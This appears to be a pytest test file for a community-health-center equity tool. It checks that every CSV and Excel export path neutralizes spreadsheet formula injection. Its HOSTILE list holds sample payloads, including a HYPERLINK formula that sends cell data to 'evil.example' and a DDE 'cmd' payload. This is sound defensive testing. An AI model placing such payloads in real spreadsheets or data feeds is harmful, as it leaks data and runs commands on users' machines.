"""No export runs a formula (issue 11 item 9): every CSV and Excel writer neutralizes hostile text cells.

The rule itself (:mod:`chc_equity.exports`), then each export path on a real warehouse whose first center
is loaded under a hostile id and whose patients have hostile names and MRNs: the care-gap CSV (web),
``chc-equity equity`` CSV, ``chc-equity uds`` CSVs and workbook, the web UDS workbook, the demo's
``equity.csv`` and ``measures evaluate``'s CSV writer.
"""

from __future__ import annotations

import csv
import io
import shutil
from datetime import date
from pathlib import Path

import pandas as pd
import pytest
from fastapi.testclient import TestClient
from typer.testing import CliRunner

from browser.webseed import PASSWORD, add_users, build_synthetic_warehouse, login, make_app
from chc_equity.cli import app
from chc_equity.cli import equity as _equity_cli  # noqa: F401  (registers the command)
from chc_equity.cli import uds as _uds_cli  # noqa: F401
from chc_equity.exports import FORMULA_TRIGGERS, csv_writer, neutralize, neutralize_frame, set_cell
from chc_equity.web.authstore import AuthStore, auth_path
from chc_equity.web.roles import Role

openpyxl = pytest.importorskip("openpyxl", reason="openpyxl not installed")

HOSTILE = [
    '=HYPERLINK("http://evil.example/?d="&A1,"open")',
    "+SUM(1+1)",
    "-2-3",
    "@SUM(1,2)",
    "\t=1+1",
    "\r=1+1",
    "=cmd|' /C calc'!A0",
]
HOSTILE_CENTER = "=1+2"


def _formula_like(text: str) -> bool:
    """Text a spreadsheet would evaluate: starts with a trigger and is not a plain number."""
    return text.startswith(FORMULA_TRIGGERS) and neutralize(text) != text


def _is_number(text: str) -> bool:
    try:
        float(text)
    except ValueError:
        return False
    return True


def _csv_cells(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text, newline="")))


def _assert_csv_safe(text: str) -> list[list[str]]:
    rows = _csv_cells(text)
    bad = [cell for row in rows for cell in row if _formula_like(cell)]
    assert bad == []
    return rows


def _assert_book_safe(book) -> None:
    for ws in book.worksheets:
        for row in ws.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (ws.title, cell.coordinate, cell.value)
                if isinstance(cell.value, str):
                    assert not _formula_like(cell.value), (ws.title, cell.coordinate, cell.value)


# --- the rule ---------------------------------------------------------------------------------------


@pytest.mark.parametrize("text", HOSTILE)
def test_hostile_text_gets_a_quote(text: str) -> None:
    assert neutralize(text) == "'" + text


@pytest.mark.parametrize(
    "value", [-3, -0.25, 0, 12, None, True, "-3", "+4", "-0.5", "1e-5", "Smith", "O'Neil"]
)
def test_numbers_and_plain_text_stay_as_they_are(value: object) -> None:
    assert neutralize(value) == value


def test_csv_writer_quotes_and_keeps_numbers_numbers() -> None:
    buffer = io.StringIO()
    csv_writer(buffer, lineterminator="\n").writerow(['=1+1,"x"', -7, -0.5, "a\nb", "\r=2", None])
    text = buffer.getvalue()
    assert text == '"\'=1+1,""x""",-7,-0.5,"a\nb","\'\r=2",""\n'  # text quoted, numbers bare
    assert _csv_cells(text)[0] == ["'=1+1,\"x\"", "-7", "-0.5", "a\nb", "'\r=2", ""]


def test_frame_keeps_numeric_columns_and_neutralizes_text() -> None:
    gap = pd.array([-4, None], dtype="Int64")
    df = pd.DataFrame({"stratum": ["-2-3", "ok"], "gap": gap, "rd": [-0.1, 0.2]})
    out = neutralize_frame(df)
    assert list(out["stratum"]) == ["'-2-3", "ok"]
    assert out["gap"].dtype == df["gap"].dtype and out["gap"].iloc[0] == -4
    assert list(out["rd"]) == [-0.1, 0.2]
    assert list(df["stratum"]) == ["-2-3", "ok"]  # the caller's frame is untouched


def test_excel_cell_is_text_not_formula(tmp_path: Path) -> None:
    book = openpyxl.Workbook()
    ws = book.active
    for i, value in enumerate([*HOSTILE, -3, -0.25], 1):
        set_cell(ws, i, 1, value)
    book.save(tmp_path / "x.xlsx")
    ws = openpyxl.load_workbook(tmp_path / "x.xlsx").active
    # (XML turns a stored CR into LF on reading; the cell is text either way)
    expected = ["'" + h.replace("\r", "\n") for h in HOSTILE]
    assert [ws.cell(i, 1).value for i in range(1, len(HOSTILE) + 1)] == expected
    assert ws.cell(len(HOSTILE) + 1, 1).value == -3 and ws.cell(len(HOSTILE) + 1, 1).data_type == "n"
    assert ws.cell(len(HOSTILE) + 2, 1).value == -0.25
    _assert_book_safe(openpyxl.load_workbook(tmp_path / "x.xlsx"))


def test_measures_evaluate_csv_writer(tmp_path: Path) -> None:
    from chc_equity.measures.evaluate import write_csv

    row = {"measure": "CMS122", "group_id": "Group_1", "patient_id": "-2-3", "population_code": "@x"}
    row["count"] = -1
    write_csv([row], tmp_path / "out.csv")
    text = (tmp_path / "out.csv").read_text()
    assert _assert_csv_safe(text)[1] == ["CMS122", "Group_1", "'-2-3", "'@x", "-1"]
    assert text.splitlines()[1].endswith(",-1")  # the count is a bare number


# --- every export path on a real warehouse with hostile data ---------------------------------------


def _hostile_patient(resource: dict) -> dict:
    n = int(resource["id"][-4:])
    resource["name"] = [{"family": HOSTILE[n % len(HOSTILE)], "given": ["Pat"]}]
    resource["identifier"] = [{"system": "urn:example:mrn", "value": HOSTILE[(n + 1) % len(HOSTILE)]}]
    return resource


@pytest.fixture(scope="module")
def network(tmp_path_factory: pytest.TempPathFactory) -> tuple[Path, list[str]]:
    path, centers = build_synthetic_warehouse(
        tmp_path_factory.mktemp("exports"), center_ids={"c01": HOSTILE_CENTER}, patient_hook=_hostile_patient
    )
    add_users(path)
    AuthStore(auth_path(path)).add_user("staff-hostile", PASSWORD, Role.CENTER_STAFF, HOSTILE_CENTER)
    return path, centers


def _copy(warehouse: Path, tmp_path: Path) -> Path:
    """CLI commands may write helper tables: run them on a copy, the module's warehouse stays as built."""
    target = tmp_path / "copy.duckdb"
    shutil.copyfile(warehouse, target)
    return target


def test_care_gap_csv(network: tuple[Path, list[str]]) -> None:
    warehouse, _ = network
    client = TestClient(make_app(warehouse))
    assert login(client, "staff-hostile").status_code == 303
    response = client.get(f"/centers/{HOSTILE_CENTER}/measures/CMS122/gaps.csv")
    assert response.status_code == 200
    rows = _assert_csv_safe(response.text)
    body = [dict(zip(rows[0], r, strict=True)) for r in rows[1:]]
    assert body, "the seeded center must have open care gaps"
    assert {r["center"] for r in body} == {"'" + HOSTILE_CENTER}
    assert {r["name"] for r in body} <= {f"'{h}, Pat" for h in HOSTILE}
    assert {r["mrn"] for r in body} <= {"'" + h for h in HOSTILE}


def test_equity_cli_csv(network: tuple[Path, list[str]], tmp_path: Path) -> None:
    warehouse = _copy(network[0], tmp_path)
    out = tmp_path / "equity"
    args = ["equity", "--measure", "all", "--by", "center", "--charts", "", "--out", str(out)]
    result = CliRunner().invoke(app, [*args, "--warehouse", str(warehouse)])
    assert result.exit_code == 0, result.output
    rows = _assert_csv_safe((out / "equity.csv").read_text())
    _assert_csv_safe((out / "equity_summary.csv").read_text())
    header, body = rows[0], [dict(zip(rows[0], r, strict=True)) for r in rows[1:]]
    assert "'" + HOSTILE_CENTER in {r["stratum"] for r in body}
    denominators = [r["denominator"] for r in body if r["denominator"]]
    assert denominators and all(d.isdigit() for d in denominators)  # numbers stay numbers
    assert "stratum" in header  # (negative numbers: test_frame_keeps_numeric_columns_and_neutralizes_text)


def test_uds_cli_csv_and_workbook(network: tuple[Path, list[str]], tmp_path: Path) -> None:
    warehouse = _copy(network[0], tmp_path)
    out = tmp_path / "uds"
    args = ["uds", "--year", "2026", "--out", str(out), "--warehouse", str(warehouse)]
    result = CliRunner().invoke(app, args)
    assert result.exit_code == 0, result.output
    scopes: set[str] = set()
    values: list[str] = []
    for path in sorted(out.glob("*.csv")):
        rows = _assert_csv_safe(path.read_text())
        if path.name.startswith("table_"):
            scopes |= {r[0] for r in rows[1:]}
            values += [c for r in rows[1:] for c in r[3:-1] if c]
    assert "'" + HOSTILE_CENTER in scopes
    assert any(_is_number(c) for c in values)
    assert not any(c.startswith("'") and _is_number(c[1:]) for c in values)  # counts stay numbers
    book = openpyxl.load_workbook(out / "uds.xlsx")
    _assert_book_safe(book)
    centers = {row[0] for row in book["Table 3B"].iter_rows(min_row=4, values_only=True)}
    assert "'" + HOSTILE_CENTER in centers
    counts = [v for row in book["Table 3B"].iter_rows(min_row=4, values_only=True) for v in row[3:]]
    assert any(isinstance(v, int) for v in counts)


def test_web_uds_workbook(network: tuple[Path, list[str]]) -> None:
    client = TestClient(make_app(network[0]))
    assert login(client, "staff-hostile").status_code == 303
    response = client.get("/uds/tables.xlsx")
    assert response.status_code == 200
    book = openpyxl.load_workbook(io.BytesIO(response.content))
    _assert_book_safe(book)
    assert {row[0] for row in book["Table 3B"].iter_rows(min_row=4, values_only=True) if row[0]} == {
        "'" + HOSTILE_CENTER
    }


def test_demo_equity_csv(network: tuple[Path, list[str]], tmp_path: Path) -> None:
    from chc_equity import demo
    from chc_equity.warehouse import connect

    assert (date(2026, 1, 1), date(2026, 12, 31)) == demo.PERIOD  # the period the fixture measured
    con = connect(_copy(network[0], tmp_path))
    try:
        demo._equity(con, tmp_path / "demo")
    finally:
        con.close()
    rows = _assert_csv_safe((tmp_path / "demo" / "equity.csv").read_text())
    assert "'" + HOSTILE_CENTER in {r[rows[0].index("stratum")] for r in rows[1:]}
